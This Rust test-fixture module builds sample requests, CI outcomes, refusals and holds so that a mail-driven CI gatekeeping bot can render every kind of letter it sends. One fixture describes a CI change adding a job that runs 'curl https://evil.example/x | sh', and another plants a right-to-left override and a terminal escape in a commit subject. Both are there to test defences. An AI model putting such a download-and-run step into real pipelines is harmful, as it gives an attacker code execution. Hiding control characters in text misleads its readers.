//! A request, a run and a writer of letters.

use crate::letters::transcripts::transcripts;
use crate::mail::letter::{Delivering, Draft, LetterInput, LetterWriter, ListWords, TargetWords};
use crate::pull::aside::{Aside, AsideNotice, RecordKey};
use crate::pull::checks::{Check, CheckPolicy, Duty, Problem};
use crate::pull::ci_change::CiDifference;
use crate::pull::cover::{Cover, Person, Request};
use crate::pull::expiry::{ExpiringKey, Warning};
use crate::pull::hold::HoldReason;
use crate::pull::ids::{ListName, ObjectId, PipelineId, PullNumber, RunId, TargetName};
use crate::pull::lineage::{Lineage, Replaced};
use crate::pull::near_miss::NearMiss;
use crate::pull::request::{Pull, Retraction, Stage, Trusted};
use crate::pull::run::Plan;
use crate::pull::run::{CiCheck, Run, RunStage, Why};
use crate::pull::signer::{Objection, Scope};
use crate::pull::tag::{Candidate, ConflictFile, Drift, Pinned, Signer, Tag, Verification};
use crate::pull::verdict::{
    Audience, Breakdown, BrokenJob, Evidence, FailedJob, NoResult, NoTag, Outcome, Overdue,
    PipelineLink, Refusal, Shortfall, Verdict,
};
use jiff::Timestamp;
use std::collections::BTreeMap;

pub(crate) struct World {
    pub(crate) writer: LetterWriter,
    pub(crate) pull: Pull,
    pub(crate) run: Run,
    pub(crate) list: ListWords,
    pub(crate) target: TargetWords,
    pub(crate) drift: Option<Drift>,
    pub(crate) now: Timestamp,
}

pub(crate) fn id(digit: char) -> ObjectId {
    "0123456789abcdef0123456789abcdef01234567".replace('0', &digit.to_string()).parse().unwrap()
}

pub(crate) fn writer(delivering: Delivering) -> LetterWriter {
    let from = Person { name: Some("Gatepost".into()), address: "gatepost@ci.example".into() };
    let managers = ["rita@project.example".to_owned(), "rob@project.example".to_owned()];
    LetterWriter::new(&from, &managers, "root@ci.example", delivering).unwrap()
}

pub(crate) fn cover() -> Cover {
    Cover {
        message_id: "20260102101500.1-1-alice@maintainer.example".parse().unwrap(),
        subject: "[PULL 00/12] Block patches".into(),
        prefixes: vec!["PULL 00/12".into()],
        revision: 1,
        author: Person {
            name: Some("Alice Bäcker".into()),
            address: "alice@maintainer.example".into(),
        },
        references: Vec::new(),
        date: Some("2026-01-02T10:15:00Z".parse().unwrap()),
        request: Request {
            url: "https://git.example/alice/project.git".into(),
            reference: "tags/block-2026-01-02".into(),
            base: Some(id('1').to_string().parse().unwrap()),
            tip: Some(id('2').to_string().parse().unwrap()),
        },
    }
}

pub(crate) fn trusted() -> Trusted {
    Trusted {
        pinned: Pinned {
            reference: "refs/tags/block-2026-01-02".into(),
            tip: id('2'),
            tag: Some(Tag {
                id: id('3'),
                payload: None,
                name: "block-2026-01-02".into(),
                tagger: "Alice Bäcker <alice@maintainer.example>".into(),
                tagged_at: None,
                message: "Block patches".into(),
            }),
        },
        signer: Signer {
            key: "F".repeat(40),
            name: "Alice Bäcker".into(),
            addresses: vec!["alice@maintainer.example".into()],
            scope: Scope::default(),
        },
        proved_at: None,
    }
}

pub(crate) fn candidate() -> Candidate {
    Candidate { base: Some(id('4')), commit: id('5'), tree: id('6') }
}

pub(crate) fn link() -> PipelineLink {
    PipelineLink {
        id: PipelineId(4711),
        url: "https://gitlab.example/project/ci/-/pipelines/4711".into(),
    }
}

pub(crate) fn job(name: &str, lines: usize) -> FailedJob {
    FailedJob {
        name: name.into(),
        url: format!("https://gitlab.example/project/ci/-/jobs/{}", 90_000 + name.len()),
        architecture: Some("s390x".into()),
        reason: Some("script_failure".into()),
        log: (1..=lines)
            .map(|n| format!("../block/io.c:{n}:12: error: 'struct io' has no member named 'len'"))
            .collect(),
    }
}

pub(crate) fn evidence(failed: Vec<FailedJob>, failed_total: u32) -> Evidence {
    Evidence {
        pipeline: link(),
        jobs: 118,
        allowed_failures: Vec::new(),
        failed,
        failed_total,
        broken: Vec::new(),
        no_result: NoResult::default(),
    }
}

impl World {
    pub(crate) fn new(delivering: Delivering) -> Self {
        let now: Timestamp = "2026-01-02T12:34:56Z".parse().unwrap();
        Self {
            writer: writer(delivering),
            pull: Pull {
                number: PullNumber(17),
                list: ListName::new("devel"),
                target: TargetName::new("master"),
                cover: cover(),
                received_at: "2026-01-02T10:15:02Z".parse().unwrap(),
                seen_at: "2026-01-02T10:15:02Z".parse().unwrap(),
                priority: 0,
                attempts: 1,
                approvals: Vec::new(),
                landing_checked: None,
                pinned_tag: None,
                pinned_payload: None,
                signed: None,
                proof: None,
                adopted: None,
                touches: Vec::new(),
                told_unanswered: None,
                lineage: Lineage::default(),
                retraction: None,
                retested_by_author: false,
                notes: Vec::new(),
                letters: Vec::new(),
                stage: Stage::Received { fetch: crate::pull::retry::Retry::now(now) },
            },
            run: run(Why::Attempt { pull: PullNumber(17), attempt: 1, plan: Plan::Fresh }),
            list: ListWords {
                name: ListName::new("devel"),
                address: "devel@lists.example".into(),
                retest_by_mail: false,
            },
            target: TargetWords {
                branch: "master".into(),
                fetch_url: "https://gitlab.example/project/ci.git".into(),
            },
            drift: None,
            now,
        }
    }

    pub(crate) fn input(&self) -> LetterInput<'_> {
        LetterInput {
            managers: &[],
            pull: &self.pull,
            run: Some(&self.run),
            list: &self.list,
            target: &self.target,
            drift: self.drift.as_ref(),
            now: self.now,
        }
    }

    pub(crate) fn tested(&mut self, outcome: Outcome) -> Draft {
        self.tested_or_silent(outcome).expect("this outcome has an audience")
    }

    pub(crate) fn tested_or_silent(&mut self, outcome: Outcome) -> Option<Draft> {
        if let RunStage::Ended { outcome: of_run, candidate: merged, .. } = &mut self.run.stage {
            *of_run = outcome.clone();
            let none = matches!(outcome, Outcome::Conflict { .. } | Outcome::Impossible { .. });
            *merged = (!none).then(candidate);
        }
        self.conclude(Some(trusted()), Verdict::Tested { run: RunId(23), outcome })
    }

    pub(crate) fn refused(&mut self, why: Refusal) -> Draft {
        self.pull.attempts = 0;
        let verdict = Verdict::Refused { why, sender_known: true };
        self.conclude(None, verdict).expect("a known sender is told")
    }

    pub(crate) fn conclude(&mut self, trusted: Option<Trusted>, verdict: Verdict) -> Option<Draft> {
        self.pull.stage = Stage::Concluded { trusted, verdict, at: self.now, written: false };
        let mut input = self.input();
        input.run = (self.pull.attempts > 0).then_some(&self.run);
        self.writer.verdict(&input).unwrap()
    }

    pub(crate) fn held(&mut self, reason: HoldReason, audience: Audience) -> Draft {
        let known = matches!(
            reason,
            HoldReason::OldTag { .. }
                | HoldReason::Moved { .. }
                | HoldReason::CiChanged { .. }
                | HoldReason::Checks { .. }
        );
        let trusted = known.then(trusted);
        let unproved =
            matches!(reason, HoldReason::UnknownKey { .. }).then(|| self::trusted().pinned);
        self.pull.stage = Stage::Held { trusted, unproved, reason, since: self.now, told: false };
        self.pull.attempts = 0;
        let input = LetterInput { run: None, ..self.input() };
        self.writer.held(&input, audience).unwrap().unwrap()
    }

    pub(crate) fn near_miss(&self) -> Draft {
        let cover = cover();
        let miss = NearMiss {
            message_id: cover.message_id,
            list: self.list.name.clone(),
            target: TargetName::new("master"),
            author: cover.author,
            subject: cover.subject,
            references: Vec::new(),
            received_at: self.pull.received_at,
        };
        let (list, target) = (&self.list, &self.target);
        self.writer.near_miss(&miss, list, target, self.now).unwrap()
    }

    pub(crate) fn asked(&self, outcome: Outcome) -> Draft {
        let why = Why::Asked {
            asker: Some("rita@project.example".into()),
            url: "https://git.example/rita/project.git".into(),
            reference: "staging-rita".into(),
            sha: id('5'),
        };
        let run = run(why);
        let (target, drift) = (&self.target, self.drift.as_ref());
        self.writer.asked(&run, &outcome, target, drift, self.now).unwrap().unwrap()
    }
}

pub(crate) fn run(why: Why) -> Run {
    Run {
        id: RunId(23),
        target: TargetName::new("master"),
        why,
        ci_ref: "staging-gatepost-17-1".into(),
        created_at: "2026-01-02T10:16:00Z".parse().unwrap(),
        ci: CiCheck::Due,
        stage: RunStage::Ended {
            had: None,
            sought: None,
            candidate: Some(candidate()),
            merged_at: None,
            cancel: None,
            outcome: Outcome::AlreadyMerged,
            at: "2026-01-02T12:34:00Z".parse().unwrap(),
            written: false,
        },
    }
}

pub(crate) fn broken(name: &str, reason: &str, tags: &str) -> BrokenJob {
    BrokenJob {
        name: name.into(),
        url: format!("https://gitlab.example/project/ci/-/jobs/{}", 90_000 + name.len()),
        reason: Some(reason.into()),
        tags: tags.into(),
    }
}

/// Runners that failed.
pub(crate) fn breakdown() -> Breakdown {
    Breakdown {
        pipeline: link(),
        broken: vec![
            broken("build-s390x", "runner_system_failure", "s390x"),
            broken("check-ppc64", "stuck_pending_no_matching_runners", "ppc64le, docker"),
        ],
        allowed: None,
        waiting: Vec::new(),
        no_result: NoResult { broken: 14, skipped: 40, ..NoResult::default() },
    }
}

/// A job that failed for a reason that nobody has heard of.
fn unheard_of() -> Breakdown {
    let nameless = BrokenJob { reason: None, ..broken("trigger", "", "") };
    Breakdown {
        broken: vec![broken("deploy", "brand_new_failure", ""), nameless],
        no_result: NoResult { broken: 2, ..NoResult::default() },
        ..breakdown()
    }
}

/// A runner that never came.
fn no_runner() -> Breakdown {
    Breakdown {
        broken: vec![broken("build-s390x", "runner_interrupted", "s390x")],
        allowed: Some(12_600),
        waiting: vec![
            "check-s390x (pending; wants a runner with s390x)".into(),
            "report (created)".into(),
        ],
        no_result: NoResult { broken: 1, never_started: 2, ..NoResult::default() },
        ..breakdown()
    }
}

/// A pipeline that GitLab does not end.
fn unended() -> Breakdown {
    Breakdown {
        broken: Vec::new(),
        allowed: Some(12_600),
        no_result: NoResult::default(),
        ..breakdown()
    }
}

/// Every outcome that somebody is told of, with a name for each.
pub(crate) fn outcomes() -> Vec<(&'static str, Outcome)> {
    let timed_out = |overdue, allowed| Outcome::TimedOut {
        pipeline: link(),
        overdue,
        allowed,
        unfinished: vec!["build-s390x (tags: s390x)".into(), "check-slow".into()],
        waiting: Vec::new(),
        no_result: NoResult::default(),
    };
    let hung = Outcome::TimedOut {
        pipeline: link(),
        overdue: Overdue::StillRunning,
        allowed: 12_600,
        unfinished: vec!["check-slow (running)".into()],
        waiting: vec![
            "build-s390x (pending; wants a runner with s390x)".into(),
            "check-s390x (created)".into(),
        ],
        no_result: NoResult { not_done: 1, never_started: 2, ..NoResult::default() },
    };
    let incomplete = |why| Outcome::Incomplete { pipeline: link(), why };
    let mut passed = evidence(Vec::new(), 0);
    passed.allowed_failures = vec!["check-patch".into(), "check-dco".into()];
    let mut passed_broken = evidence(Vec::new(), 0);
    passed_broken.broken = vec!["flaky-macos".into()];
    passed_broken.no_result = NoResult { broken: 1, skipped: 2, ..NoResult::default() };
    let mut mixed = evidence(vec![job("build-fedora", 3)], 1);
    mixed.broken = vec!["build-s390x".into(), "check-ppc64".into()];
    mixed.no_result =
        NoResult { broken: 2, cancelled: 1, skipped: 40, not_done: 0, never_started: 3 };
    let few = evidence(vec![job("build-fedora", 15), job("check-slow", 3)], 2);
    let names = ["a", "b", "c", "build-d", "build-e", "build-f"];
    let many = evidence(names.iter().map(|name| job(name, 20)).collect(), 40);
    let files = vec![
        ConflictFile {
            path: "block/io.c".into(),
            kind: "both changed".into(),
            touched_by: vec!["89abcdef0123 block: drop the lock before the callback".into()],
        },
        ConflictFile {
            path: "docs/block.rst".into(),
            kind: "changed here, deleted in the request".into(),
            touched_by: Vec::new(),
        },
    ];
    vec![
        ("passed", Outcome::Passed(evidence(Vec::new(), 0))),
        ("passed-allowed-failures", Outcome::Passed(passed)),
        ("failed", Outcome::Failed(few)),
        ("failed-many", Outcome::Failed(many)),
        ("conflict", Outcome::Conflict { base: id('4'), files, total: 4 }),
        ("timed-out", timed_out(Overdue::StillRunning, 12_600)),
        ("never-started", timed_out(Overdue::NeverStarted, 7_200)),
        ("incomplete-canceled", incomplete(Shortfall::Canceled)),
        ("incomplete-skipped", incomplete(Shortfall::Skipped)),
        ("incomplete-manual", incomplete(Shortfall::Manual { jobs: vec!["deploy".into()] })),
        ("incomplete-empty", incomplete(Shortfall::Empty)),
        (
            "incomplete-required",
            incomplete(Shortfall::RequiredMissing { jobs: vec!["build-s390x".into()] }),
        ),
        (
            "incomplete-no-failed-job",
            incomplete(Shortfall::NoFailedJob {
                yaml_errors: Some("jobs:build config contains unknown keys: scirpt".into()),
            }),
        ),
        ("failed-mixed", Outcome::Failed(mixed)),
        ("passed-broken", Outcome::Passed(passed_broken)),
        ("timed-out-waiting", hung),
        ("infrastructure", Outcome::Infrastructure(breakdown())),
        ("infrastructure-unheard-of", Outcome::Infrastructure(unheard_of())),
        ("infrastructure-waiting", Outcome::Infrastructure(no_runner())),
        ("infrastructure-unended", Outcome::Infrastructure(unended())),
        (
            "impossible",
            Outcome::Impossible {
                why: "GitLab refused the push to staging-gatepost-17-1: the branch is protected."
                    .into(),
            },
        ),
    ]
}

/// Every refusal, with a name for each.
pub(crate) fn refusals() -> Vec<(&'static str, Refusal)> {
    let key = "D5E4A7C1B2F3908172635445362718090A1B2C3D".to_owned();
    let signed = Refusal::Signature;
    vec![
        ("refused-unsigned", signed(Verification::Unsigned)),
        (
            "refused-bad",
            signed(Verification::Bad { why: "the tag was changed after it was signed".into() }),
        ),
        (
            "refused-unknown-key",
            signed(Verification::UnknownKey { key: key.clone(), proved: false }),
        ),
        (
            "refused-not-listed",
            signed(Verification::NotListed { key: key.clone(), owner: "Alice Bäcker".into() }),
        ),
        (
            "refused-expired",
            signed(Verification::Expired {
                key: key.clone(),
                why: "it expired on 2025-12-31".into(),
            }),
        ),
        (
            "refused-revoked",
            signed(Verification::Revoked { key, why: "its owner revoked it".into() }),
        ),
        ("refused-weak", signed(Verification::Weak { why: "it uses SHA-1".into() })),
        (
            "refused-name-mismatch",
            signed(Verification::NameMismatch {
                signed: "block-2025-11-30".into(),
                found: "block-2026-01-02".into(),
            }),
        ),
        (
            "refused-other-sender",
            Refusal::Signer(Objection::OtherSender {
                signer: "Alice Example".into(),
                sender: "bob@maintainer.example".into(),
            }),
        ),
        (
            "refused-other-list",
            Refusal::Signer(Objection::OtherList {
                signer: "Alice Bäcker".into(),
                list: ListName::new("devel"),
                may: vec![ListName::new("block"), ListName::new("trivial")],
            }),
        ),
        (
            "refused-other-target",
            Refusal::Signer(Objection::OtherTarget {
                signer: "Alice Bäcker".into(),
                target: TargetName::new("stable-9.0"),
                may: vec![TargetName::new("master")],
            }),
        ),
        (
            "refused-other-paths",
            Refusal::Signer(Objection::OtherPaths {
                signer: "Alice Bäcker".into(),
                may: vec!["block/**".into(), "docs/block*.rst".into()],
                files: vec!["Makefile".into(), "hw/net/e1000.c".into()],
                total: 14,
            }),
        ),
        ("refused-checks", Refusal::Checks(problems(EVERY))),
        ("refused-person", by_a_person(true)),
        ("refused-person-unproved", by_a_person(false)),
        ("refused-accepted-nowhere", signed(Verification::Good(trusted().signer))),
        (
            "refused-url",
            Refusal::UrlNotAllowed { why: "URLs with the scheme git are not allowed.".into() },
        ),
        ("refused-lightweight-tag", Refusal::NoTag { kind: NoTag::Lightweight, tip: id('2') }),
        ("refused-ref-missing", Refusal::RefMissing),
        (
            "refused-tip-mismatch",
            Refusal::TipMismatch { asked: id('2').to_string().parse().unwrap(), found: id('7') },
        ),
        (
            "refused-unfetchable",
            Refusal::Unfetchable { why: "The server git.example did not answer.".into() },
        ),
    ]
}

/// A release manager's own words.
fn by_a_person(proved: bool) -> Refusal {
    let reason = "The release is out; please send it again for 9.1.";
    Refusal::Person { by: "rita@project.example".into(), reason: reason.into(), proved }
}

/// What a request would change in CI: more than a record keeps.
fn difference() -> CiDifference {
    CiDifference {
        digest: "5f".repeat(32),
        summary: "1 job added, 1 job changed, 1 CI file changed".into(),
        lines: vec![
            "job check-s390x, tags: [\"s390x\"] -> [\"deploy\"]".into(),
            "job mine is added: script: [\"curl https://evil.example/x | sh\"]; stage: test; \
             tags: [\"deploy\"]"
                .into(),
            "configuration of mine is added: rules: - if: $CI_COMMIT_BRANCH; script: - curl \
             https://evil.example/x | sh"
                .into(),
        ],
        total: 4,
    }
}

/// Every reason to hold, with a name for each.
pub(crate) fn holds() -> Vec<(&'static str, HoldReason)> {
    vec![
        ("held-backlog", HoldReason::Backlog),
        ("held-late", HoldReason::LateArrival),
        (
            "held-unknown-key-openpgp",
            HoldReason::UnknownKey {
                key: "D5E4A7C1B2F3908172635445362718090A1B2C3D".into(),
                proved: false,
                tag: id('3'),
            },
        ),
        (
            "held-unknown-key-ssh",
            HoldReason::UnknownKey {
                key: "SHA256:uNiVztksCsDhcc0u9e8BgrJXVGLLPkTyZ0vdaKNvx5A".into(),
                proved: true,
                tag: id('3'),
            },
        ),
        ("held-moved", HoldReason::Moved { was: id('9'), is: id('3') }),
        (
            "held-checks",
            HoldReason::Checks { problems: problems(&[Check::Submodules, Check::Nacked]) },
        ),
        ("held-frozen", HoldReason::Checks { problems: vec![frozen()] }),
        ("held-ci", HoldReason::CiChanged { run: RunId(23), difference: difference() }),
        ("held-old-tag", HoldReason::OldTag { tagged_at: "2025-11-30T08:00:00Z".parse().unwrap() }),
    ]
}

const EVERY: &[Check] = &[
    Check::ListAttributed,
    Check::AuthorSignOff,
    Check::SubmitterSignOff,
    Check::Utf8,
    Check::Submodules,
    Check::Merges,
    Check::Empty,
    Check::BaseUnknown,
    Check::BaseNotAncestor,
    Check::CiSkip,
    Check::TooMany,
    Check::Nacked,
];

/// Problems of a request's commits, with the words of somebody who means harm.
fn problems(checks: &[Check]) -> Vec<Problem> {
    let problem = |(at, check): (usize, &Check)| {
        let whole = [Check::Empty, Check::BaseUnknown, Check::BaseNotAncestor, Check::TooMany];
        let commits = match whole.contains(check) {
            true => Vec::new(),
            false => vec!["0123456789ab block: \u{202e}fix \u{1b}[1mit (by Bob)".to_owned()],
        };
        let total = if at % 2 == 0 { 1 } else { 12 };
        let duty = CheckPolicy::usual().duty(*check);
        Problem { check: *check, duty, commits, total }
    };
    checks.iter().enumerate().map(problem).collect()
}

/// That the target is frozen, and for what.
fn frozen() -> Problem {
    let commits = vec!["until 2026-01-05 08:00 UTC, by rita: release week".to_owned()];
    Problem { check: Check::Frozen, duty: Duty::Hold, commits, total: 0 }
}

/// Outcomes of which nobody is told but who asked for the test.
fn unheard() -> Vec<(&'static str, Outcome)> {
    vec![
        ("already-merged", Outcome::AlreadyMerged),
        ("ci-changed", Outcome::CiChanged(difference())),
        ("cancelled", Outcome::Cancelled { by: "rob@project.example".into() }),
    ]
}

/// Letters that may be answered with a command.
fn answerable(delivering: Delivering) -> Vec<(String, Draft)> {
    let world = || {
        let world = World::new(delivering);
        World {
            writer: world.writer.clone().with_commands("gatepost-do@ci.example").unwrap(),
            ..world
        }
    };
    let late = HoldReason::LateArrival;
    let broken = world().tested(Outcome::Infrastructure(breakdown()));
    let mut over = world();
    let said = "Please drop this.".to_owned();
    over.pull.retraction = Some(Retraction { said, at: over.now, told: false });
    let input = LetterInput { run: None, ..over.input() };
    vec![
        ("answerable-held-managers".into(), world().held(late.clone(), Audience::Managers)),
        ("answerable-held-author".into(), world().held(late, Audience::Author)),
        ("answerable-infrastructure".into(), broken),
        ("answerable-passed".into(), world().tested(outcomes().remove(0).1)),
        ("answerable-retracted".into(), over.writer.retracted(&input).unwrap().unwrap()),
    ]
}

/// Every letter the bot can write, with a name for each.
pub(crate) fn every_letter(delivering: Delivering) -> Vec<(String, Draft)> {
    let mut letters = Vec::new();
    for (name, outcome) in outcomes() {
        letters.push((name.to_owned(), World::new(delivering).tested(outcome.clone())));
        letters.push((format!("asked-{name}"), World::new(delivering).asked(outcome)));
    }
    for (name, outcome) in unheard() {
        letters.push((format!("asked-{name}"), World::new(delivering).asked(outcome)));
    }
    letters.extend(answerable(delivering));
    let mut moved = World::new(delivering);
    moved.drift = Some(Drift { head: id('8'), commits: 3, same_files: vec!["block/io.c".into()] });
    letters.push(("passed-moved".into(), moved.tested(outcomes().remove(0).1)));
    letters.push(("failed-moved".into(), moved.tested(outcomes().remove(2).1)));
    for (name, why) in refusals() {
        letters.push((name.to_owned(), World::new(delivering).refused(why)));
    }
    let mut branch = World::new(delivering);
    branch.pull.cover.request.reference = "for-upstream".into();
    let tip = id('2');
    let draft = branch.refused(Refusal::NoTag { kind: NoTag::Branch, tip });
    letters.push(("refused-branch".into(), draft));
    let mut ssh = World::new(delivering);
    ssh.pull.cover.request.url = "git@git.example:alice/project.git".into();
    let why = "URLs with the scheme ssh are not allowed.".into();
    letters.push(("refused-ssh".into(), ssh.refused(Refusal::UrlNotAllowed { why })));
    letters.push(("near-miss".into(), World::new(delivering).near_miss()));
    for (name, reason) in holds() {
        for audience in [Audience::Author, Audience::Managers] {
            let name = format!("{name}-{audience:?}").to_lowercase();
            letters.push((name, World::new(delivering).held(reason.clone(), audience)));
        }
    }
    let mut approved = World::new(delivering);
    let dropped = vec!["build-s390x".to_owned()];
    approved.run.ci = CiCheck::Approved { by: "rita".into(), dropped };
    letters.push(("passed-ci-approved".into(), approved.tested(outcomes().remove(0).1)));
    let mut late = World::new(delivering);
    late.now = "2026-01-03T10:40:00Z".parse().unwrap();
    let because = "it is third in the queue, and one pipeline may run at a time.";
    letters.push(("unanswered".into(), late.writer.unanswered(&late.input(), because).unwrap()));
    for (name, over) in [("retracted", false), ("retracted-late", true)] {
        let mut world = World::new(delivering);
        world.pull.retraction = Some(Retraction {
            said: "NAK, I'll send a v2 once the s390x build works.".into(),
            at: world.now,
            told: false,
        });
        if over {
            let verdict = Verdict::Refused { why: Refusal::RefMissing, sender_known: true };
            world.pull.stage = Stage::Answered { trusted: None, verdict, at: world.now };
        }
        let input = LetterInput { run: None, ..world.input() };
        letters.push((name.into(), world.writer.retracted(&input).unwrap().unwrap()));
    }
    let mut second = World::new(delivering);
    second.pull.cover.revision = 2;
    second.pull.cover.subject = "[PULL v2 00/12] Block patches".into();
    second.pull.lineage.note(Replaced { number: PullNumber(12), revision: 1 });
    letters.push(("passed-v2".into(), second.tested(outcomes().remove(0).1)));
    let detail = "The IMAP server imap.project.example refuses the login of gatepost.\n\nNo mail \
                  is seen until that is mended; check account.main in the configuration.";
    let alert = late.writer.alert("the mailbox main can't be read", detail, late.now);
    letters.push(("alert".into(), alert.unwrap()));
    for (name, key, pull, what) in [
        ("pull", RecordKey::Pull(PullNumber(14)), Some(14), "\"[PULL 0/3] Block\" by Alice Bäcker"),
        (
            "mail",
            RecordKey::Mail("c1@x.example".parse().unwrap()),
            None,
            "\"help\" from a@x.example",
        ),
    ] {
        let aside = Aside::new("request 14 takes 40000 bytes", late.now);
        let notice = AsideNotice::new(key, aside, what, pull.map(PullNumber));
        letters
            .push((format!("set-aside-{name}"), late.writer.set_aside(&notice, late.now).unwrap()));
    }
    let counts = [("refused, sender unknown".to_owned(), 12), ("near misses".to_owned(), 3)];
    let since = "2025-12-27T10:40:00Z".parse().unwrap();
    let counted = late.writer.counted(&counts.into(), since, late.now);
    letters.push(("counts".into(), counted.unwrap()));
    let none = late.writer.counted(&BTreeMap::new(), since, late.now);
    letters.push(("counts-none".into(), none.unwrap()));
    for (name, key, address) in [
        (
            "key-expires",
            "D5E4A7C1B2F3908172635445362718090A1B2C3D",
            Some("alice@maintainer.example"),
        ),
        ("key-expires-ssh", "SHA256:uNiVztksCsDhcc0u9e8BgrJXVGLLPkTyZ0vdaKNvx5A", None),
    ] {
        let key = ExpiringKey {
            key: key.into(),
            owner: "Alice Bäcker".into(),
            address: address.map(str::to_owned),
            expires: "2026-01-09T12:00:00Z".parse().unwrap(),
        };
        let warning = Warning { key, days: 7 };
        let owner = late.writer.key_expires(&warning, late.now).unwrap();
        letters.extend(owner.map(|draft| (format!("{name}-owner"), draft)));
        let administrator = late.writer.key_expires_for_administrator(&warning, late.now).unwrap();
        letters.push((format!("{name}-administrator"), administrator));
    }
    letters.extend(transcripts(&World::new(delivering)));
    letters
}
